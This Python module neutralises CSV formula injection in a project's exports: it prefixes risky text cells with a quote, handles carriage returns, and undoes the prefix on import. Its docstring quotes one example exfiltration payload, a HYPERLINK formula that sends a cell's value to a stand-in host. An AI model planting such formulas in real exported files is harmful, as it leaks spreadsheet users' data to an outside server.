"""What a spreadsheet opens: text from the catalogue and the room that never runs as a formula.

A name comes from whoever wrote the catalogue or joined a round, and a spreadsheet
reads a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
carriage return) as a formula: a participant named ``=HYPERLINK("http://x/?"&A2,"x")``
would send the cells beside it to another server when the file is opened and the link
clicked. So:

* every CSV the board and the command line write is written by :func:`csv_text`, which
  puts a ``'`` before such a text cell (OWASP's advice for CSV injection; a spreadsheet
  then shows the text as it is) and leaves numbers as numbers: ``-3`` in a column of
  numbers stays ``-3``. A text holding a carriage return ends the file's lines with
  CR LF, so that the cell is quoted: a bare CR would otherwise start a row of its own,
  whose first cell no ``'`` protects;
* a scores file read back (:func:`cxprio.store.round_scores.import_scores`) drops that
  ``'`` again (:func:`read_back`), so a file the board wrote reads back as the same
  names;
* the workbook (:func:`cxprio.outputs.report.xlsx`) has no such prefix: it stores every text as
  a text cell, which a spreadsheet never runs.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a CSV cell as a formula."""

QUOTE = "'"
"""What goes before a text that would read as a formula: a spreadsheet shows the text."""


def _runs(text: str) -> bool:
    """Whether ``text`` needs a quote: it starts with a formula's character, after any
    quotes of its own (so that :func:`read_back` undoes :func:`neutral` for every text)."""
    return text.lstrip(QUOTE).startswith(FORMULA_STARTS)


def neutral(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows and never runs: with a ``'`` before it
    when it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return."""
    return QUOTE + text if _runs(text) else text


def read_back(text: str) -> str:
    """A cell of a CSV file as it was before :func:`neutral`: the ``'`` that was put
    before a formula's character is dropped; any other text is returned as it is."""
    return text[1:] if text.startswith(QUOTE) and _runs(text[1:]) else text


def _neutral_cell(value: Any) -> Any:
    return neutral(value) if isinstance(value, str) else value


def _holds_cr(value: Any) -> bool:
    return isinstance(value, str) and "\r" in value


def _holds_text(dtype: Any) -> bool:
    return (
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )


def csv_text(frame: pd.DataFrame, **options: Any) -> str:
    """``frame`` as CSV text (``options`` are :meth:`pandas.DataFrame.to_csv`'s, such as
    ``index=False``), each text cell and column name passed through :func:`neutral`.
    Numbers, true and false, times and empty cells are written as they are; ``frame`` is
    not changed. Lines end with LF, or CR LF when a text holds a CR (which quotes it)."""
    safe = frame.copy(deep=False)
    carriage_return = any(_holds_cr(c) for c in frame.columns)
    for position in range(frame.shape[1]):
        values = frame.iloc[:, position]
        if not _holds_text(values.dtype):
            continue
        try:
            # Most text columns repeat a few values (a RACI matrix of millions of cells
            # holds five): looking at each value once keeps a large table quick.
            distinct = pd.unique(values.cat.categories if values.dtype == "category" else values)
        except TypeError:  # a list in a cell: not hashable
            distinct = values.to_numpy()
        carriage_return = carriage_return or any(map(_holds_cr, distinct))
        if not any(isinstance(v, str) and _runs(v) for v in distinct):
            continue
        if isinstance(values.dtype, pd.CategoricalDtype):
            safe.isetitem(position, values.cat.rename_categories(_neutral_cell).array)
        else:
            safe.isetitem(position, values.map(_neutral_cell).array)
    safe.columns = pd.Index([_neutral_cell(c) for c in frame.columns])
    # The csv module quotes a cell holding a character of the line ending, and only then.
    options.setdefault("lineterminator", "\r\n" if carriage_return else "\n")
    text: str | None = safe.to_csv(**options)
    if text is None:  # only when given a path or a buffer
        raise TypeError("csv_text returns the text: write it yourself rather than give a path")
    return text
